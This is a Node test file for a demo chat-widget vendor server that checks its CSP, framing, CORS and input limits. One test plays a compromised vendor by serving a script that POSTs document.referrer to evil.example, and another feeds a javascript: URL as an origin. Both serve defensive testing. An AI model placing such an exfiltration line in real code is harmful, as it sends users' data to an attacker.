import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { requiredCsp } from '../widget-frames.js';
import { buildDemoChatServer, CHAT_JS } from './demo-chat.server.js';

const APP = 'http://localhost:3000';
const CHAT = 'http://localhost:3002';
const chat = buildDemoChatServer({ appOrigins: [APP] });
after(() => chat.close());

const FETCH_DIRECTIVES = new Set([
  'script-src',
  'style-src',
  'img-src',
  'font-src',
  'connect-src',
  'frame-src',
  'media-src',
  'object-src',
  'worker-src',
  'manifest-src',
]);

function parse(policy: string): Map<string, string[]> {
  return new Map(
    policy.split(';').map((d) => {
      const [name, ...sources] = d.trim().split(/\s+/);
      return [name!, sources];
    }),
  );
}

/**
 * Whether `returned` (the frame's own CSP) is at least as strong as `required` for every directive
 * required names, 'self' being the frame's origin: CSP Embedded Enforcement then loads the frame
 * without Allow-CSP-From. A simplification of Chromium's check, strict where it is unsure.
 */
function subsumes(required: string, returned: string, self: string): string[] {
  const a = parse(required);
  const b = parse(returned);
  const weaker: string[] = [];
  for (const [directive, allowed] of a) {
    const own = b.get(directive) ?? (FETCH_DIRECTIVES.has(directive) ? b.get('default-src') : undefined);
    if (!own) {
      weaker.push(`${directive}: missing`);
      continue;
    }
    const sources = own.map((s) => (s === "'self'" ? self : s)).filter((s) => s !== "'none'");
    const allowedHere = allowed.filter((s) => s !== "'none'");
    for (const s of sources) if (!allowedHere.includes(s)) weaker.push(`${directive}: ${s}`);
  }
  return weaker;
}

describe('demo chat vendor', () => {
  test('demo chat: the page carries a CSP at least as strong as the one the app requires, frames only on the app, and no Allow-CSP-From', async () => {
    const res = await chat.inject('/chat');
    assert.equal(res.statusCode, 200);
    assert.match(String(res.headers['content-type']), /^text\/html/);
    const csp = String(res.headers['content-security-policy']);
    assert.match(csp, new RegExp(`frame-ancestors ${APP}$`));
    const required = requiredCsp({ name: 'chat', url: `${CHAT}/chat`, origin: CHAT, classes: ['buyer'], title: 'Chat', connect: [] });
    assert.deepEqual(subsumes(required, csp, CHAT), []);
    assert.ok(!('allow-csp-from' in res.headers), 'no Allow-CSP-From: the policy itself satisfies the embedder');
    assert.equal(res.headers['x-content-type-options'], 'nosniff');
    assert.equal(res.headers['referrer-policy'], 'no-referrer');
    assert.match(res.body, />Chat with us</);
    for (const tag of res.body.match(/<script\b[^>]*>[\s\S]*?<\/script>/gi) ?? []) assert.match(tag, /^<script src="\/chat\.js"[^>]*><\/script>$/);
    assert.doesNotMatch(res.body, /\sstyle=|<style|\son[a-z]+=|<form/i, 'no inline style or handlers, and no form (the sandbox allows none)');

    // The check itself tells a weaker policy apart.
    assert.deepEqual(subsumes(required, "default-src 'none'; script-src 'self' https://cdn.example; form-action 'none'; base-uri 'none'", CHAT), [
      'script-src: https://cdn.example',
    ]);
    assert.equal(subsumes(required, "script-src 'self'", CHAT).length, 7, 'every other directive is missing');
  });

  test('demo chat: several app origins may frame it; none is refused at build', () => {
    const two = buildDemoChatServer({ appOrigins: ['https://tickets.example/', 'https://tickets.example', 'https://shop.example'] });
    return two.inject('/chat.css').then((res) => {
      assert.match(String(res.headers['content-security-policy']), /frame-ancestors https:\/\/tickets\.example https:\/\/shop\.example$/);
      assert.match(String(res.headers['content-type']), /^text\/css/);
      assert.throws(() => buildDemoChatServer({ appOrigins: [] }));
      assert.throws(() => buildDemoChatServer({ appOrigins: ['javascript:alert(1)'] }));
    });
  });

  test('demo chat: its script can be replaced to play a compromised vendor, and restored', async () => {
    const script = async () => {
      const res = await chat.inject('/chat.js');
      assert.match(String(res.headers['content-type']), /^text\/javascript/);
      return res.body;
    };
    assert.equal(await script(), CHAT_JS);
    assert.match(CHAT_JS, /parent\.postMessage\(\{ type: 'taquilla-widget', action: action \}, '\*'\)/);
    const evil = "fetch('https://evil.example/steal', { method: 'POST', body: document.referrer });";
    chat.setScript(evil);
    assert.equal(await script(), evil);
    assert.match(String((await chat.inject('/chat.js')).headers['content-security-policy']), /connect-src 'self'/, 'the headers stay strict');
    chat.setScript(null);
    assert.equal(await script(), CHAT_JS);
    const started = buildDemoChatServer({ appOrigins: [APP], script: evil });
    assert.equal((await started.inject('/chat.js')).body, evil);
  });

  test('demo chat: a message gets a canned JSON answer any sandboxed frame may read; large or odd bodies are refused', async () => {
    const post = (payload: unknown) => chat.inject({ method: 'POST', url: '/messages', payload: payload as object, headers: { origin: 'null' } });
    const res = await post({ text: 'Where are my tickets?' });
    assert.equal(res.statusCode, 200);
    assert.equal(typeof res.json().reply, 'string');
    assert.equal(res.headers['access-control-allow-origin'], '*');
    assert.equal(res.headers['access-control-allow-credentials'], undefined);
    const preflight = await chat.inject({ method: 'OPTIONS', url: '/messages', headers: { origin: 'null', 'access-control-request-method': 'POST' } });
    assert.equal(preflight.statusCode, 204);
    assert.equal(preflight.headers['access-control-allow-headers'], 'content-type');
    assert.equal((await post({ text: 'x'.repeat(3000) })).statusCode, 413);
    assert.equal((await post({ text: 'x'.repeat(501) })).statusCode, 400);
    assert.equal((await post({ text: 'hi', card: '4242' })).statusCode, 400);
  });
});
